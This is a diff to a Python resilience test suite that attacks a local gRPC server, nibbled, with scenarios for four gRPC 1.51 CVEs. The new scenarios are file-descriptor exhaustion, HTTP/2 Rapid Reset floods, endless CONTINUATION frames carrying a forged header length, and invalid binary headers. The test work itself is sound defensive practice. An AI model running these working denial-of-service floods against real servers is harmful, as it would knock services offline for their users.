@@ -1,6 +1,6 @@
 #!/usr/bin/python3
 """Hostile clients against a nibbled of their own, one scenario per attack
-of issue 27 that nibble itself fixes (its row numbers in brackets).
+of issue 27 (its row numbers in brackets).
 
 Each scenario starts nibbled in a memory- and pids-limited cgroup (where this
 process may make one), uploads a bystander weight, attacks while a
@@ -14,7 +14,9 @@ still served.
         --proto_py=build/tests/hostile/proto_py [--full] [SCENARIO...]
 
 Without --full each attack is a short form for ctest; --full (make hostile)
-runs each longer and larger. --list prints the scenarios.
+runs each longer and larger. Scenarios of gRPC's own weaknesses run through
+HAProxy (deploy/haproxy/nibble-front.cfg); --bare runs them without it, to
+show what nibbled alone does not survive. --list prints the scenarios.
 
 Uses Debian's python3 (its python3-h2 and python3-protobuf).
 """
@@ -23,6 +25,7 @@ import argparse
 import dataclasses
 import os
 import re
+import resource
 import shutil
 import socket
 import sys
@@ -30,9 +33,14 @@ import time
 import traceback
 import zlib
 
-sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from harness import (MIB, Bystander, Nibbled, ProcessLimits,
-                     RawGrpcConnection, in_background, require, run_for)
+HERE = os.path.dirname(os.path.abspath(__file__))
+FRONT_CONFIG = os.path.join(HERE, "..", "..", "deploy", "haproxy",
+                            "nibble-front.cfg")
+sys.path.insert(0, HERE)
+from harness import (CANCEL, CONTINUATION, END_HEADERS, HEADERS, MIB,
+                     RST_STREAM, Bystander, Nibbled, ProcessLimits,
+                     RawGrpcConnection, frame, in_background, require,
+                     run_for)
 
 # nibbled's limits in every scenario: the weight budget the RSS bound is
 # stated against, and a message size that keeps gRPC's buffers small.
@@ -89,6 +97,11 @@ class Scenario:
     data_dir: bool = False
     # Runs before nibbled starts, given the data directory (data_dir only).
     prepare: object = None
+    # Clients, the bystander included, reach nibbled through the HAProxy
+    # front of the container image (deploy/haproxy/nibble-front.cfg).
+    front: bool = False
+    # nibbled's RLIMIT_NOFILE, where the attack is on file descriptors.
+    max_open_files: int = None
 
 
 SCENARIOS = {}
@@ -393,6 +406,131 @@ def data_dir_traps(attack):
     time.sleep(attack.seconds)
 
 
+# The rows below are gRPC 1.51's own (Debian's, unpatched), so they run
+# through the front. nibbled alone does not survive 1, 2 and 5 (--bare); 11
+# harms the calls that share the attacker's connection, which behind a front
+# that shared its connections to nibbled would be everyone's.
+NIBBLED_OPEN_FILES = 1024
+
+
+@scenario("1", front=True, max_open_files=NIBBLED_OPEN_FILES)
+def idle_connections(attack):
+    """Idle TCP connections from many addresses, more than nibbled's 1,024
+    file descriptors (gRPC 1.51 never accepts again once accept4 fails,
+    CVE-2023-4785), then closed: the front holds them, 64 per address, and
+    new clients are served during and after."""
+    addresses = attack.scale(18, 48)
+    host, port = attack.server.target.rsplit(":", 1)
+    held = []
+    try:
+        for address in range(addresses):
+            for _ in range(70):
+                try:
+                    held.append(socket.create_connection(
+                        (host, int(port)), timeout=5,
+                        source_address=(f"127.0.1.{address + 2}", 0)))
+                except OSError:
+                    pass
+        attack.report["connections"] = len(held)
+        require(len(held) > NIBBLED_OPEN_FILES,
+                f"only {len(held)} connections opened, not more than "
+                f"nibbled's {NIBBLED_OPEN_FILES} files (this process's "
+                "RLIMIT_NOFILE?)")
+        time.sleep(attack.seconds)
+    finally:
+        for peer in held:
+            peer.close()
+
+
+@scenario("2", front=True)
+def rapid_reset(attack):
+    """HEADERS and at once RST_STREAM, streams after streams, as fast as two
+    connections carry them (CVE-2023-44487)."""
+    sent = 0
+    deadline = time.monotonic() + attack.seconds
+
+    def flood():
+        nonlocal sent
+
+        def connection():
+            nonlocal sent
+            with RawGrpcConnection(attack.server.target) as attacker:
+                attacker.go_raw()
+                block = attacker.header_block(MATMUL)
+                stream = 1
+                while time.monotonic() < deadline:
+                    burst = b"".join(
+                        frame(HEADERS, END_HEADERS, s, block) +
+                        frame(RST_STREAM, 0, s, CANCEL.to_bytes(4, "big"))
+                        for s in range(stream, stream + 400, 2))
+                    if not attacker.send_raw(burst):
+                        return
+                    sent += 200
+                    stream += 400
+
+        run_for(attack.seconds, connection)
+
+    for flooder in [in_background(flood) for _ in range(2)]:
+        flooder.join()
+    attack.report["streams_reset"] = sent
+
+
+@scenario("5", front=True)
+def continuation_flood(attack):
+    """One header value trickled over CONTINUATION frames without end, on
+    two connections, each reopened when closed (CVE-2023-33953)."""
+    sent = 0
+    deadline = time.monotonic() + attack.seconds
+
+    def flood():
+        nonlocal sent
+
+        def connection():
+            nonlocal sent
+            with RawGrpcConnection(attack.server.target) as attacker:
+                attacker.go_raw()
+                # A literal header (new name, never indexed) whose value
+                # claims 2^30 bytes: 0x10, the name, then the length.
+                start = (attacker.header_block(HEALTH_CHECK) + b"\x10\x07x-flood" +
+                         b"\x7f" + bytes([0x81, 0x80, 0x80, 0x80, 0x04]))
+                if not attacker.send_raw(frame(HEADERS, 0, 1, start)):
+                    return
+                filler = frame(CONTINUATION, 0, 1, b"a" * 16384)
+                while (time.monotonic() < deadline and
+                       attacker.send_raw(filler)):
+                    sent += len(filler)
+
+        run_for(attack.seconds, connection)
+
+    for flooder in [in_background(flood) for _ in range(2)]:
+        flooder.join()
+    attack.report["sent_mib"] = round(sent / MIB, 1)
+
+
+@scenario("11", front=True)
+def invalid_binary_header(attack):
+    """Calls whose `-bin` header is not base64 (CVE-2023-32732: gRPC then
+    ends every stream of the connection). Behind the front each client
+    connection has its own connection to nibbled, so only the attacker's
+    own calls fail."""
+    failed = 0
+
+    def volley():
+        nonlocal failed
+        with RawGrpcConnection(attack.server.target) as attacker:
+            try:
+                streams = [attacker.start_call(
+                    HEALTH_CHECK, b"", extra_headers=[("x-trace-bin", "!!!")])
+                    for _ in range(8)]
+                failed += sum(not answer.finished or answer.status != 0
+                              for answer in attacker.wait_answers(streams, 10))
+            except OSError:  # the server closed the attacker's connection
+                failed += 8
+
+    run_for(attack.seconds, volley)
+    attack.report["attacker_calls_failed"] = failed
+
+
 def require_none_lost(server, acknowledged):
     lost = [name for name in acknowledged if not server.holds(name)]
     require(not lost, f"acknowledged weights lost: {lost}")
@@ -418,7 +556,10 @@ def run_scenario(chosen, options):
         data_dir = os.path.join(scratch, "data")
         os.makedirs(data_dir)
         flags.append(f"--data_dir={data_dir}")
-    server = Nibbled(options.bin_dir, scratch, flags, LIMITS, token_file)
+    server = Nibbled(options.bin_dir, scratch, flags, LIMITS, token_file,
+                     front_config=(FRONT_CONFIG if chosen.front and
+                                   not options.bare else None),
+                     max_open_files=chosen.max_open_files)
     server.start()
     attack = Attack(server=server, seconds=options.seconds, full=options.full,
                     acknowledged=[BYSTANDER_WEIGHT])
@@ -445,6 +586,9 @@ def run_scenario(chosen, options):
             attack.report[f"p99_{when}_ms"] = round(result.p99_ms, 1)
         peak = server.peak_rss_bytes()
         attack.report["peak_rss_mib"] = round(peak / MIB, 1)
+        if server.front is not None:
+            attack.report["front_peak_rss_mib"] = round(
+                server.peak_rss_bytes(server.front) / MIB, 1)
         require(peak <= WEIGHT_BUDGET_BYTES + RSS_MARGIN_BYTES,
                 f"peak RSS {peak / MIB:.0f} MiB over the budget "
                 f"{WEIGHT_BUDGET_BYTES // MIB} MiB + margin "
@@ -477,6 +621,9 @@ def main():
         "TEST_TMPDIR", "/tmp") + "/hostile")
     parser.add_argument("--full", action="store_true")
     parser.add_argument("--p99_ms", type=float, default=50)
+    parser.add_argument("--bare", action="store_true",
+                        help="run every scenario without the front, to see "
+                        "what nibbled alone does not survive")
     parser.add_argument("--list", action="store_true")
     parser.add_argument("scenarios", nargs="*")
     options = parser.parse_args()
@@ -486,6 +633,9 @@ def main():
     unknown = set(options.scenarios) - set(SCENARIOS)
     if unknown:
         parser.error(f"no scenario {sorted(unknown)}; --list names them")
+    # Attacks hold thousands of sockets.
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     sys.path.insert(0, options.proto_py)
     global v1
     from nibble.v1 import nibble_pb2 as v1
